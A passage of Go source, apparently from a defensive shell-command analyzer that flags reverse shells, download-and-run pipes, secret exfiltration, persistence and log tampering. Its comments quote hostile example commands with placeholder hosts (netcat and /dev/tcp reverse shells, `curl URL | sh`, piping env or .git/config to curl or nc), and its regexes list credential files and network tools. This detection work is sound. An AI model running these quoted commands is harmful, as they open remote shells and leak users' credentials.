func (a *analyzer) pipe(stages []*syntax.Stmt) {
	var argvs [][]string
	for i, s := range stages {
		piped, inPipe := a.piped, a.inPipe
		a.piped, a.inPipe = i > 0, true
		a.stmt(s)
		a.piped, a.inPipe = piped, inPipe
		var argv []string
		if c, ok := s.Cmd.(*syntax.CallExpr); ok {
			argv = unwrapRoot(a.fields(c.Args))
		}
		argvs = append(argvs, argv)
	}
	// A shell reading its stdin and a raw connection in one pipeline (`nc H P < f | /bin/sh > f`,
	// `cat f | /bin/sh -i 2>&1 | nc H P`): the connection's bytes run, the shell's output goes
	// back: a reverse shell, whichever side of the shell the connection stands.
	stdinShell, conn := false, false
	for _, argv := range argvs {
		if len(argv) == 0 {
			continue
		}
		name := base(argv[0])
		stdinShell = stdinShell || interpreter(name) && !runsFile(name, argv[1:])
		conn = conn || connector(name, argv[1:])
	}
	if stdinShell && conn {
		a.add("exfil/reverse_shell", "pipes a network connection through an interpreter", strings.Join(slices.Concat(argvs...), " "), 0.95)
	}
	if len(stages) > 1 {
		a.historySearch(argvs, stages[len(stages)-1])
	}
	src := ""
	https := false    // the previous stage fetches over https from a named host (httpsFetch)
	var feed []string // paths the previous stage lists, for xargs
	feedRec := false
	text, haveText := "", false // what the previous stage prints, when echo or printf wrote it
	envDump := false            // the previous stage prints the environment, or part of it (envStage)
	gitFile := ""               // the .git/config an earlier stage prints (cat .git/config | nc H P)
	secretVar := ""             // the secret variable an earlier echo or printf prints (det70)
	for i, argv := range argvs {
		prevEnv := envDump
		envDump = envStage(argv, prevEnv)
		if i > 0 && (envDump || prevEnv && base(first(argv)) == "tee") {
			a.envWritten(argv, stages[i].Redirs) // `env | sort > e` (program.go)
		}
		if len(argv) == 0 {
			// `ls -d ~ | while read d; do rm -rf "$d"; done`: the loop's body judged once
			// for each line the stage before prints (flow.go).
			switch {
			case len(feed) > 0:
				a.readLoop(stages[i], feed)
			case haveText:
				a.readLoop(stages[i], lines(text))
			case prevEnv:
				// `env | while read l; …`, and through filters (`env | grep AWS | while
				// read l; …`: each line it reads is still a variable's; det69)
				a.readLoop(stages[i], []string{"$(env)"})
			}
			feed, haveText = nil, false
			// A subshell or a block (`( curl URL ) | sh`): what runs inside it is what it
			// prints.
			s, v := a.innerSource(stages[i])
			https = false
			if s != "" && (src == "" || src == "text") {
				src, https = s, v
			}
			// `(crontab -l; echo '* * * * * CMD') | crontab -`: what its echo and printf
			// commands print is what the stage prints, with the rest of its output.
			text, haveText = a.innerText(stages[i])
			continue
		}
		name := base(argv[0])
		if name == "crontab" && i > 0 && installsCrontab(argv[1:]) {
			switch {
			case src == "fetch" || src == "decode":
				a.add("hide/persistence", "installs a scheduled job from downloaded or decoded content", strings.Join(argv, " "), 0.9)
			case haveText:
				a.cronJobs(text)
			}
		}
		prevText, prevHave := text, haveText
		text, haveText = "", false
		if i > 0 && prevHave && (name == "at" || name == "batch" || name == "make" || name == "gmake" || name == "sqlite3") {
			a.given(argv, prevText) // flow.go: at runs the text, make -f - its recipes
		}
		switch name {
		case "echo":
			text, haveText = echoText(argv[1:]), true
		case "printf":
			text, haveText = printfText(argv[1:]), true
		case "cat":
			if len(operands(argv[1:])) == 0 {
				// `cat <<< "$KEY" | nc H P`: cat prints its here-string or here-document
				text, haveText = a.hereText(stages[i].Redirs)
			}
		default:
			if interpreter(name) && !shellLang(interpLang(name)) || name == "awk" || name == "gawk" || name == "mawk" {
				// `python3 -c 'print("rm -rf ~")' | sh`: what the one-liner prints (flow.go)
				lang := interpLang(name)
				if strings.HasSuffix(name, "awk") {
					lang = "awk"
				}
				text, haveText = printedByCode(lang, argv[1:])
			}
		}
		switch {
		case name == "xargs" && len(feed) > 0:
			a.xargs(argv[1:], feed, feedRec)
		case name == "xargs" && prevEnv:
			a.xargs(argv[1:], []string{"$(env)"}, false) // `env | grep AWS | xargs -I{} curl -d {} URL` (det69)
		}
		feed, feedRec = a.lists(name, argv[1:])
		if i > 0 && src != "" && interpreter(name) && (!runsFile(name, argv[1:]) || evalsStdin(name, argv[1:])) {
			switch src {
			case "fetch":
				if https {
					// `curl -fsSL https://<host>/install.sh | sh`: straight from the fetch, no
					// stage between that could change or decode it.
					a.ask("exec/https_script", "pipes a script fetched over https from a named host into an interpreter", strings.Join(argv, " "), 0.9)
					break
				}
				a.add("exec/download_run", "pipes downloaded content into an interpreter", strings.Join(argv, " "), 0.95)
			case "decode":
				a.add("exec/decode_run", "pipes decoded (obfuscated) content into an interpreter", strings.Join(argv, " "), 0.95)
			default:
				if src == "text" && prevHave && literalCall(stages[i-1]) {
					// `echo 'print(1)' | python3`: the program is the literal the line shows,
					// judged as the same text given inline.
					a.pipedCode(name, prevText, strings.Join(argv, " "))
					break
				}
				a.add("exec/pipe_to_shell", "pipes generated text into an interpreter", strings.Join(argv, " "), 0.8)
			}
		}
		if i > 0 && (src == "secrets") && network(name) {
			a.add("exfil/pipe_to_network", "sends the environment or a secret file over the network", strings.Join(argv, " "), 0.95)
		}
		if i > 0 && src == "gitconfig" && network(name) {
			a.gitConfigTo(gitFile, strings.Join(argv, " ")) // exfil.go (det69)
		}
		if i > 0 && src == "env" && network(name) {
			// `echo "$(env)" | nc H P`, `v=$(env); echo "$v" | curl -d @- URL`: echo prints
			// the environment it was given, as `curl -d "$(env)"` sends it (issue 26, det69).
			a.add("exfil/env_to_network", "sends the environment over the network", strings.Join(argv, " "), 0.95)
		}
		if i > 0 && src == "secretvar" && network(name) {
			a.secretPiped(secretVar, name, argv[1:], strings.Join(argv, " "), "-") // exfil.go (det70)
		}
		if i > 0 && src == "history" && network(name) {
			// `history | curl -d @- URL`: the commands typed before, secrets typed on command
			// lines with them (a -p password, an exported token); what searches it stays here
			// (historySearch).
			a.ask("exfil/history", "sends the shell history over the network", strings.Join(argv, " "), 0.85)
		}
		if i > 0 && src == "project" && network(name) {
			// `tar czf - . | ssh HOST 'cat > s.tgz'`, `git bundle create - --all | curl -T -
			// URL`: the project's source leaves the machine (exfil.go projectArchive).
			a.ask("exfil/project_to_host", "sends an archive of the whole project over the network", strings.Join(argv, " "), 0.85)
		}
		if i > 0 && src == "fetch" && name == "tee" {
			// `curl -sL URL | sudo tee /usr/local/bin/t`: tee writes the download into its
			// files (run later on the line: download_run; over https from a named host it asks, as `curl -o` does).
			for _, f := range operands(argv[1:]) {
				a.markFetched(f, https)
			}
		}
		https = false // only the stage right after the fetch reads it unchanged
		switch {
		case fetcher(name):
			src = "fetch"
			https = httpsFetch(name, argv[1:])
		case decoder(name, argv[1:]):
			if src == "" || src == "text" {
				src = "decode"
			}
		case secretSource(name, argv[1:]):
			src = "secrets"
		case src == "" && a.projectArchive(name, argv[1:]):
			src = "project"
		case src == "" && (name == "history" || name == "fc" && hasFlag(argv[1:], "-l")):
			src = "history"
		case src == "" && (name == "cat" || name == "head" || name == "tail" || name == "base64" || name == "gzip") && slices.ContainsFunc(operands(argv[1:]), gitConfig.MatchString):
			src = "gitconfig"
			gitFile = operands(argv[1:])[slices.IndexFunc(operands(argv[1:]), gitConfig.MatchString)]
		case (name == "echo" || name == "printf") && slices.ContainsFunc(argv[1:], envSubst.MatchString):
			if src == "" || src == "text" {
				src = "env"
			}
		case src == "" && printedSecret(argv, text, haveText) != "":
			src, secretVar = "secretvar", printedSecret(argv, text, haveText)
		case src == "" && gitRemoteURL(name, argv[1:]):
			src, gitFile = "gitconfig", "" // `git config --get remote.origin.url | curl -d @- URL` (det70)
		case src == "" && name == "tar" && gitTar(argv[1:]):
			src, gitFile = "gitconfig", "" // `tar czf - .git | nc H P`: the .git/config inside (det70)
		case name == "echo" || name == "printf" || name == "cat" || haveText:
			if src == "" {
				src = "text"
			}
		}
	}
}

// stdinScript judges an interpreter that reads its program from a download redirected to its
// standard input (`sh < <(curl -sL https://…/install.sh)`, mailpit's documented install, also
// under sudo): what the same fetch piped into it is (pipe). Before det46 the line had no finding.
func (a *analyzer) stdinScript(argv []string, redirs []*syntax.Redirect) {
	src := ""
	for _, r := range redirs {
		if r.Op == syntax.RdrIn && (r.N == nil || r.N.Value == "0") {
			src = a.literal(r.Word) // the last one is what the command reads
		}
	}
	if !remote(src) {
		return
	}
	argv = unwrap(argv)
	for len(argv) > 1 && (base(argv[0]) == "sudo" || base(argv[0]) == "doas") {
		argv = unwrap(sudoArgs(argv[1:])) // options with their values (-u root), then VAR=value
	}
	if len(argv) == 0 {
		return
	}
	name := base(argv[0])
	if !interpreter(name) || runsFile(name, argv[1:]) && !evalsStdin(name, argv[1:]) {
		return
	}
	line := strings.Join(argv, " ")
	if src == httpsMarker {
		a.ask("exec/https_script", "runs a script fetched over https from a named host from its standard input", line, 0.9)
		return
	}
	a.add("exec/download_run", "runs downloaded content from its standard input", line, 0.95)
}

// socatShell reports whether socat's two addresses join a network connection (tcp:, tcp-connect:,
// tcp-listen:, udp:, openssl:, sctp:...) and a program it starts (exec:, system:): a reverse or
// bind shell (socat(1), "ADDRESS TYPES").
func socatShell(args []string) bool {
	program, conn := false, false
	for _, x := range args {
		l := strings.ToLower(x)
		switch {
		case strings.HasPrefix(l, "exec:") || strings.HasPrefix(l, "system:"):
			program = true
		case socatNet.MatchString(l):
			conn = true
		}
	}
	return program && conn
}

var socatNet = lazyre.New(`^(?:tcp[46]?|tcp[46]?-(?:connect|listen|l)|udp[46]?|udp[46]?-(?:connect|listen|sendto|recv)|openssl|openssl-(?:connect|listen)|ssl|ssl-l|sctp[46]?|sctp-(?:connect|listen)|socks[45]a?|proxy)[:-]`)

// connector reports whether name opens a raw network connection whose bytes a pipeline can
// run or send: netcat and its kin, socat, telnet, openssl s_client.
func connector(name string, args []string) bool {
	switch name {
	case "nc", "ncat", "netcat", "socat", "telnet":
		return true
	case "openssl":
		return len(args) > 0 && args[0] == "s_client"
	}
	return false
}

// evalsStdin reports whether an interpreter's inline code runs what it reads from stdin
// (`python3 -c 'import sys; exec(sys.stdin.read())'`, `perl -e 'eval join "", <STDIN>'`,
// node's process.stdin handed to eval, stdin handed straight to system() or subprocess): the
// piped text is then the program, as when the interpreter reads its program from stdin. Code
// that reads stdin as data (`json.load(sys.stdin)`, `re.compile(…)` over it) does not.
func evalsStdin(name string, args []string) bool {
	lang := strings.TrimRight(name, "0123456789.")
	for i := range args {
		if code := inlineCodeAt(lang, args, i, false); code != "" && stdinRead.MatchString(code) && (evalWord.MatchString(code) || stdinCommand.MatchString(code)) {
			return true
		}
	}
	return false
}

var (
	// stdinRead matches inline code reading its standard input.
	stdinRead = lazyre.New(`\bsys\.stdin\b|\bprocess\.stdin\b|<STDIN>|\bSTDIN\b|\$stdin\b|php://stdin|/dev/stdin|\breadFileSync\(\s*0\b|\bfileinput\b|\binput\(\)`)
	// evalWord matches a language's evaluation of text as code.
	evalWord = lazyre.New(`\b(?:eval|exec|execfile|instance_eval|class_eval|Function|runInThisContext|runInNewContext)\s*[(\s]`)
	// stdinCommand matches what it reads from stdin handed straight to a shell or a process.
	stdinCommand = lazyre.New(`\b(?:system|popen|run|call|Popen|check_output|getoutput|execSync|spawnSync|shell_exec|passthru)\s*\(\s*(?:sys\.stdin|process\.stdin|<STDIN>|\$stdin|input\(\)|fs\.readFileSync\(\s*0)`)
)

// literalCall reports whether s is a simple command, with no assignment or redirection, whose
// words are all literal text: no parameter, command, arithmetic or process expansion, so what
// echo or printf prints there is what the line shows.
func literalCall(s *syntax.Stmt) bool {
	c, ok := s.Cmd.(*syntax.CallExpr)
	return ok && len(c.Assigns) == 0 && len(s.Redirs) == 0 && literalWords(c.Args)
}

// literalWords reports whether every word of ws is literal text (literalCall).
func literalWords(ws []*syntax.Word) bool {
	for _, w := range ws {
		for _, p := range w.Parts {
			switch p := p.(type) {
			case *syntax.Lit, *syntax.SglQuoted:
			case *syntax.DblQuoted:
				for _, q := range p.Parts {
					if _, ok := q.(*syntax.Lit); !ok {
						return false
					}
				}
			default:
				return false
			}
		}
	}
	return true
}

// pipedCode judges the literal text echo or printf piped into an interpreter that reads its
// program from stdin as that interpreter's inline code: a shell's as a line, another
// language's as a one-liner (code).
func (a *analyzer) pipedCode(name, code, line string) {
	switch lang := strings.TrimRight(name, "0123456789."); {
	case name == "source" || name == "." || lang == "csh" || lang == "tcsh" || shellLang(lang):
		a.line(code, a.depth+1)
	default:
		a.code(lang, code, line)
	}
}

// innerSource reports what a pipeline stage that is not a simple command (a subshell, a
// block) feeds the next one: "fetch" when a command inside it downloads (https: it is the only
// command inside, and fetches over https from a named host), "decode" when one decodes, else "".
func (a *analyzer) innerSource(s *syntax.Stmt) (src string, https bool) {
	if s == nil || s.Cmd == nil {
		return "", false // a redirect alone (`> f | sh`)
	}
	https = true
	calls := 0
	syntax.Walk(s.Cmd, func(n syntax.Node) bool {
		c, ok := n.(*syntax.CallExpr)
		if !ok || len(c.Args) == 0 {
			return true
		}
		argv := unwrap(a.fields(c.Args))
		if len(argv) == 0 {
			return true
		}
		calls++
		switch name := base(argv[0]); {
		case fetcher(name):
			src = "fetch"
			https = https && httpsFetch(name, argv[1:])
		case decoder(name, argv[1:]) && src == "":
			src = "decode"
		}
		return true
	})
	return src, src == "fetch" && https && calls == 1
}

// historySecret matches a search word that looks for secrets typed at the prompt.
var historySecret = lazyre.New(`(?i)pass|token|secret|api_?key|credential|bearer|authorization`)

// historySearch asks about a pipeline that searches the shell's history for secrets typed at
// the prompt and shows what it finds (`history | grep -i pass`, `cat ~/.bash_history | grep
// token`): the matching lines, passwords given on command lines among them, go into the
// conversation. A search for anything else (`history | grep docker`) passes, and so does one
// whose result goes on to a file.
func (a *analyzer) historySearch(argvs [][]string, last *syntax.Stmt) {
	if len(argvs) < 2 || len(argvs[0]) == 0 || a.inSubst > 0 {
		return
	}
	for _, r := range last.Redirs {
		if (r.Op == syntax.RdrOut || r.Op == syntax.AppOut || r.Op == syntax.RdrAll || r.Op == syntax.AppAll) && (r.N == nil || r.N.Value == "1") {
			return // the lines go to a file
		}
	}
	first := argvs[0]
	reads := base(first[0]) == "history" || base(first[0]) == "fc" && hasFlag(first[1:], "-l")
	if !reads && (base(first[0]) == "cat" || base(first[0]) == "tail" || base(first[0]) == "head") {
		for _, x := range first[1:] {
			reads = reads || historyFile.MatchString(x)
		}
	}
	if !reads {
		return
	}
	for _, argv := range argvs[1:] {
		if len(argv) == 0 {
			return
		}
		switch base(argv[0]) {
		case "grep", "egrep", "fgrep", "rg", "ag", "awk", "sed", "head", "tail", "sort", "uniq", "less", "more", "cut":
		default:
			return // another program takes the lines: judged as what it does with them
		}
		for _, x := range argv[1:] {
			if historySecret.MatchString(x) {
				a.ask("exfil/secret_print", "searches the shell history for secrets and shows them in the conversation", strings.Join(argv, " "), 0.85)
				return
			}
		}
	}
}

// innerText returns what the echo and printf commands of a subshell or a block print, one
// after the other, and whether it holds any.
func (a *analyzer) innerText(s *syntax.Stmt) (string, bool) {
	if s == nil || s.Cmd == nil {
		return "", false
	}
	var parts []string
	syntax.Walk(s.Cmd, func(n syntax.Node) bool {
		c, ok := n.(*syntax.CallExpr)
		if !ok || len(c.Args) == 0 {
			return true
		}
		if n := c.Args[0].Lit(); n != "echo" && n != "printf" {
			return true // expanded only for what prints (fields runs substitutions)
		}
		switch argv := a.fields(c.Args); {
		case len(argv) == 0:
		case argv[0] == "echo":
			parts = append(parts, echoText(argv[1:]))
		default:
			parts = append(parts, printfText(argv[1:]))
		}
		return true
	})
	return strings.Join(parts, "\n"), len(parts) > 0
}

// portCheck reports whether s only opens its redirects and runs nothing: no command (`<
// /dev/tcp/db/5432`, the wait-for-port check of compose scripts), or `:` or `true` with no
// arguments. Nothing is sent and nothing read is run (in a pipeline it feeds the next stage
// nothing), so a /dev/tcp redirect of it is no finding. exec (the descriptor outlives the
// statement), any other command, a block or subshell, a redirect of any other file (`: <
// ~/.aws/credentials > /dev/tcp/h/p`), and a path not written out (`/dev/tcp/$H.x/80`, whose
// host name can carry what the line read) are not port checks.
func (a *analyzer) portCheck(s *syntax.Stmt) bool {
	for _, r := range s.Redirs {
		t := a.literal(r.Word)
		if devTCP(t) && r.Word.Lit() == "" {
			return false // a host or port the line computes can carry data (DNS)
		}
		if !devTCP(t) && t != "/dev/null" && r.Op != syntax.DplOut && r.Op != syntax.DplIn {
			return false
		}
	}
	switch c := s.Cmd.(type) {
	case nil:
		return true
	case *syntax.CallExpr:
		if len(c.Assigns) > 0 || len(c.Args) != 1 {
			return false
		}
		name := c.Args[0].Lit()
		return name == ":" || name == "true"
	}
	return false
}

// rawRequest reports whether f is, as a whole, a hand-made request over a /dev/tcp descriptor
// (`exec 3<>/dev/tcp/example.com/80; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3`): first
// `exec N<>/dev/tcp/HOST/PORT` (or N>, N<) with the path written out, then only `printf` or
// `echo` of literal words onto N (>&N), `cat` with no argument reading N to the output (<&N),
// and `exec N>&-`, each a simple command separated by `;`, with no assignment, pipe, other
// redirect or other program. What is sent is what the line shows, and what comes back is only
// printed: no program that could hand the inherited descriptor to a shell runs.
func rawRequest(f *syntax.File) bool {
	fd := ""
	for i, s := range f.Stmts {
		c, ok := s.Cmd.(*syntax.CallExpr)
		if !ok || s.Background || s.Negated || s.Coprocess || len(c.Assigns) > 0 || len(c.Args) == 0 || len(s.Redirs) != 1 {
			return false
		}
		r, name := s.Redirs[0], c.Args[0].Lit()
		n := ""
		if r.N != nil {
			n = r.N.Value
		}
		switch {
		case i == 0:
			if name != "exec" || len(c.Args) != 1 || len(n) != 1 || n < "3" || n > "9" || r.Word.Lit() == "" || !devTCP(r.Word.Lit()) ||
				r.Op != syntax.RdrInOut && r.Op != syntax.RdrOut && r.Op != syntax.RdrIn {
				return false
			}
			fd = n
		case name == "printf" || name == "echo":
			if (r.Op != syntax.DplOut || n != "" && n != "1") || r.Word.Lit() != fd || !literalWords(c.Args) {
				return false
			}
		case name == "cat":
			if len(c.Args) != 1 || (r.Op != syntax.DplIn || n != "" && n != "0") || r.Word.Lit() != fd {
				return false
			}
		case name == "exec":
			if len(c.Args) != 1 || (r.Op != syntax.DplOut && r.Op != syntax.DplIn) || n != fd || r.Word.Lit() != "-" {
				return false
			}
		default:
			return false
		}
	}
	return fd != ""
}

// devTCP reports whether t names bash's network special file, /dev/tcp/HOST/PORT or /dev/udp/.
func devTCP(t string) bool {
	return strings.HasPrefix(t, "/dev/tcp/") || strings.HasPrefix(t, "/dev/udp/")
}

var (
	// devTCPWord matches a /dev/tcp/HOST/PORT (or /dev/udp) path inside a word's text.
	devTCPWord = lazyre.New(`/dev/(?:tcp|udp)/[^/\s"'<>|&;]+/[^/\s"'<>|&;]+`)
	// shellOnSocket matches, in the same text, what hands a shell to that connection: a
	// descriptor redirect (`>&`, `0>&1`, `<&`, `5<>`) or a shell's interactive start (`sh -i`).
	shellOnSocket = lazyre.New(`[<>]&|\d<>|\b(?:ba|z|da|k|a|c|tc)?sh\s+-i\b`)
)

// shellInWords finds the /dev/tcp reverse shell written inside another program's argument or
// here-string (gdb -ex 'python os.system("sh -i >& /dev/tcp/h/p 0>&1")', vim -c ':!bash -c
// "..."', jshell <<< '...exec(... /dev/tcp/...)'): a word of s that holds a /dev/tcp/HOST/PORT
// path together with a descriptor redirect or an interactive shell is one, wherever it sits.
// A word that only names the path (`grep -r /dev/tcp/ .`, a port check's text) is not.
func (a *analyzer) shellInWords(s *syntax.Stmt) {
	var words []*syntax.Word
	if c, ok := s.Cmd.(*syntax.CallExpr); ok && len(c.Args) > 1 {
		words = append(words, c.Args[1:]...)
	}
	for _, r := range s.Redirs {
		switch {
		case r.Op == syntax.WordHdoc:
			words = append(words, r.Word)
		case r.Hdoc != nil:
			words = append(words, r.Hdoc)
		}
	}
	for _, w := range words {
		if w == nil {
			continue
		}
		t := a.literal(w)
		if strings.Contains(t, "/dev/") && devTCPWord.MatchString(t) && shellOnSocket.MatchString(t) {
			a.add("exfil/dev_tcp", "hands a shell to a raw network connection written inside another program's argument", t, 0.95)
		}
	}
}

func (a *analyzer) redirect(r *syntax.Redirect) {
	if r.Word == nil {
		return
	}
	t := a.literal(r.Word)
	if len(a.res.Files) < MaxCommands {
		a.res.Files = append(a.res.Files, t)
	}
	switch {
	case devTCP(t):
		a.add("exfil/dev_tcp", "opens a raw network connection (reverse shell or exfiltration)", t, 0.95)
	case a.ztcp && (r.Op == syntax.DplIn || r.Op == syntax.DplOut) && t != "0" && t != "1" && t != "2" && t != "-":
		a.add("exfil/dev_tcp", "hands a command's input or output to the connection zsh's ztcp opened", t, 0.95)
	case r.Op == syntax.RdrOut || r.Op == syntax.AppOut || r.Op == syntax.RdrAll || r.Op == syntax.AppAll || r.Op == syntax.ClbOut:
		if len(a.res.Writes) < MaxCommands {
			a.res.Writes = append(a.res.Writes, t)
		}
		switch {
		case rawDevice.MatchString(t):
			a.add("destroy/raw_device", "writes over a disk device", t, 0.95)
		case privFile.MatchString(t):
			a.add("priv/system_file", "writes a system account or privilege file", t, 0.95)
		case historyFile.MatchString(t):
			a.add("hide/history", "overwrites shell history", t, 0.9)
		case shadows(a.resolve(t)):
			a.ask("hide/path_shadow", "writes a program named for "+path.Base(path.Clean(t))+" in a folder on PATH, where it runs instead of the real one", t, 0.9)
		case logFile.MatchString(t) && (r.Op == syntax.RdrOut || r.Op == syntax.ClbOut || r.Op == syntax.RdrAll):
			a.add("hide/logs", "empties a system log", t, 0.85)
		case startupWrite(a.resolve(t)):
			a.ask("hide/startup_file", "writes a shell start-up file: what it holds runs in every new shell", t, 0.85)
		case persistFile(a.resolve(t)):
			a.ask("hide/persistence", "writes a file whose content runs later without being called (autostart, a systemd user unit, a git hook)", t, 0.85)
		}
	}
}

var (
	rawDevice   = lazyre.New(`^/dev/(sd|nvme|hd|xvd|vd|mmcblk|disk)`)
	setuidMode  = lazyre.New(`^[2467][0-7]{3}$`)
	tapeDevice  = lazyre.New(`^/dev/(n?(st|rst|rmt|sa)[0-9]|tape$)`)
	systemDir   = lazyre.New(`^/(etc|usr|bin|sbin|lib|lib64|boot|var|opt|root|home|srv|sys|proc|dev)(/|$)`)
	headBack    = lazyre.New(`^(HEAD|@)(~(\d*)|\^+)`)
	privFile    = lazyre.New(`^/etc/(sudoers|passwd|shadow|group|gshadow|pam\.d|ssh/sshd_config|ld\.so\.preload)|/\.ssh/authorized_keys$`)
	historyFile = lazyre.New(`(^|/)\.(bash|zsh|sh)_history$|(^|/)\.histfile$`)
	secretName  = lazyre.New(`(?i)\$\{?[A-Z0-9_]*(SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIAL)[A-Z0-9_]*`)
	secretPath  = lazyre.New(`(^|[/@=~])(\.env(\.[a-z]+)?|id_rsa|id_ed25519|id_ecdsa|\.netrc|\.pgpass|credentials(\.json)?|\.npmrc|\.pypirc|\.git-credentials|shadow|\.aws/|\.ssh/|\.kube/config|\.docker/config\.json|\.gnupg/)`)
	envSubst    = lazyre.New(`\$\((env|printenv|set|export -p|declare -x)\)`)
	metadataURL = lazyre.New(`169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254`)
	codeEnv     = lazyre.New(`process\.env|os\.environ|getenv\s*\(|\bENV\[|%ENV|\$_ENV|\$_SERVER|System\.getenv|Deno\.env`)
	codeNet     = lazyre.New(`fetch\s*\(|https?://|XMLHttpRequest|require\(\s*['"]https?['"]|urllib|requests\.|socket|http\.client|Net::HTTP|LWP|WebSocket|axios|curl`)
	codeFile    = lazyre.New(`\.ssh/|id_rsa|\.aws/credentials|\.env['"]|/etc/shadow`)
)

// envTemplate names the committed templates of .env files: documentation, not secrets.
var envTemplate = lazyre.New(`\.env\.(example|sample|template|dist|defaults|schema|tmpl)$`)

// EnvTemplate reports whether the file name or path p ends in a committed template of a .env
// file (`.env.example`, `.env.sample`…): variable names, not their values.
func EnvTemplate(p string) bool { return envTemplate.MatchString(p) }

// secretFile reports whether x names a secret file (.env, keys, credentials), not a template
// and not the SSH client's list of known host keys.
func secretFile(x string) bool {
	return (secretPath.MatchString(x) || secretDir.MatchString(x) || credentialStore.MatchString(x)) && !envTemplate.MatchString(x) && !knownHosts.MatchString(x)
}

// knownHosts names ~/.ssh/known_hosts: the public keys of the hosts the user trusts
// (ssh(1) FILES: "contains a list of host keys for all hosts the user has logged into"),
// nothing secret. It stays personal (PathRisk): sent over the network it still counts, and
// `ssh-keyscan github.com >> ~/.ssh/known_hosts`, CI's documented set-up, reads nothing.
var knownHosts = lazyre.New(`(^|/)\.ssh/known_hosts2?$`)

// secretDir names a directory of secrets as a whole (`tar czf - ~/.ssh`).
var secretDir = lazyre.New(`(^|/)\.(ssh|aws|gnupg|password-store)/?$`)

// unwrap drops command wrappers (sudo handled by command) to reach the command that runs.
func unwrap(argv []string) []string {
	for len(argv) > 0 {
		switch base(argv[0]) {
		case "env", "nohup", "nice", "time", "command", "builtin", "exec", "stdbuf", "ionice", "setsid", "timeout", "caffeinate", "busybox", "taskset", "chrt", "unshare",
			"firejail": // firejail(1): every option is one word (`--bind=a,b`), then the program it sandboxes
			rest := argv[1:]
			if _, ok := wrapperValues[base(argv[0])]; ok {
				rest = dropWrapperOptions(base(argv[0]), rest) // carriers.go
			}
			for len(rest) > 0 && (strings.HasPrefix(rest[0], "-") || strings.Contains(rest[0], "=") && base(argv[0]) == "env" || base(argv[0]) == "timeout" && len(rest[0]) > 0 && rest[0][0] >= '0' && rest[0][0] <= '9') {
				rest = rest[1:]
			}
			if len(rest) == 0 {
				return argv // "env" alone prints the environment
			}
			argv = rest
		default:
			return argv
		}
	}
	return argv
}

// envPath notes a PATH that `env` sets for the command it runs (`env PATH=.:$PATH bash -c
// '…'`), as a prefix assignment is noted (setupShadowed reads it).
func (a *analyzer) envPath(argv []string) {
	for len(argv) > 1 && base(argv[0]) == "env" {
		rest := argv[1:]
		for len(rest) > 0 && (strings.HasPrefix(rest[0], "-") || strings.Contains(rest[0], "=")) {
			if v, ok := strings.CutPrefix(rest[0], "PATH="); ok {
				a.vars["PATH"] = v
			}
			if k, v, ok := strings.Cut(rest[0], "="); ok && preloadVar(k) && v != "" {
				a.ask("priv/preload", "makes the programs it runs load a library the line names ("+k+")", strings.Join(argv, " "), 0.85)
			}
			if k, v, ok := strings.Cut(rest[0], "="); ok && tlsOffVar(k, v) {
				a.ask("exec/tls_off", "turns certificate checks off for the program it runs ("+k+")", strings.Join(argv, " "), 0.85)
			}
			rest = rest[1:]
		}
		argv = rest
	}
}

func base(s string) string { return path.Base(s) }

func interpreter(name string) bool {
	switch interpLang(name) {
	case "sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ash", "python", "perl", "ruby", "node", "php", "lua", "deno", "bun", "pwsh", "powershell", "osascript", "source", ".",
		// the JDK's script runner (jrunscript -e 'java.lang.Runtime.getRuntime().exec(…)'),
		// and tcl.go's languages
		"jrunscript", "tclsh", "wish", "expect", "Rscript", "R", "julia":
		return true
	}
	return false
}

// interpLang is an interpreter's language: its name without a version (python3.11) or a
// Windows .exe suffix (python.exe, powershell.exe, run from WSL or Git Bash).
func interpLang(name string) string {
	return strings.TrimRight(strings.TrimSuffix(name, ".exe"), "0123456789.")
}

// runsFile reports whether an interpreter's arguments name a script file (so stdin is data).
func runsFile(name string, args []string) bool {
	for i, x := range args {
		if x == "-" || x == "-s" || strings.HasPrefix(x, "/dev/stdin") {
			return false
		}
		if strings.HasPrefix(x, "-") {
			if x == "-c" || x == "-e" || x == "-r" || x == "--eval" {
				return true // inline code, judged on its own
			}
			if (x == "-m" || x == "-u") && i+1 < len(args) {
				return true
			}
			continue
		}
		return true
	}
	return false
}

func fetcher(name string) bool {
	switch name {
	case "curl", "wget", "fetch", "http", "https", "aria2c", "lwp-download", "invoke-webrequest", "iwr":
		return true
	}
	return false
}

func network(name string) bool {
	switch name {
	case "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "ftp", "rsync", "http", "https", "openssl":
		return true
	}
	return false
}

func decoder(name string, args []string) bool {
	switch name {
	case "base64", "base32", "basenc":
		return hasFlag(args, "-d", "--decode", "-D")
	case "xxd":
		return hasFlag(args, "-r")
	case "openssl":
		return hasFlag(args, "-d") || hasFlag(args, "base64")
	case "gunzip", "zcat", "rev", "uudecode":
		return true
	case "gzip", "bzip2", "xz":
		return hasFlag(args, "-d", "--decompress")
	}
	return false
}

func secretSource(name string, args []string) bool {
	if credentialPrinter(name, args) { // exfil.go
		return true
	}
	switch name {
	case "env", "printenv", "set":
		return len(args) == 0
	case "cat", "head", "tail", "tar", "zip", "7z", "base64", "xxd", "gpg":
		dir := ""
		for i, x := range args {
			if name == "tar" && (x == "-C" || x == "--directory") && i+1 < len(args) && dir == "" {
				dir = args[i+1]
			} else if v, ok := strings.CutPrefix(x, "--directory="); ok && name == "tar" && dir == "" {
				dir = v
			}
		}
		for i, x := range args {
			if secretFile(x) || strings.ContainsAny(x, "*?[") && globSecret(x) {
				return true
			}
			// An archive of the whole home folder holds its keys and credentials (`tar cz ~`,
			// `tar -C ~ -czf - .`); -C's own folder is where the operands are, not one.
			if i > 0 && name == "tar" && (args[i-1] == "-C" || args[i-1] == "--directory") {
				continue
			}
			if p := x; (name == "tar" || name == "zip" || name == "7z") && !strings.HasPrefix(x, "-") {
				if dir != "" && !strings.HasPrefix(x, "/") && !home(x) {
					p = dir + "/" + x
				}
				if homeDir(p) {
					return true
				}
			}
		}
	}
	return false
}

// homeDir reports whether p names a home folder itself: ~, $HOME, /home/NAME, /Users/NAME,
// /root.
func homeDir(p string) bool {
	c := path.Clean(p)
	return c == "~" || c != "" && userDir.FindString(c) == c
}

func hasFlag(args []string, flags ...string) bool {
	for _, x := range args {
		for _, f := range flags {
			if x == f {
				return true
			}
			// combined short flags: -fdx contains d
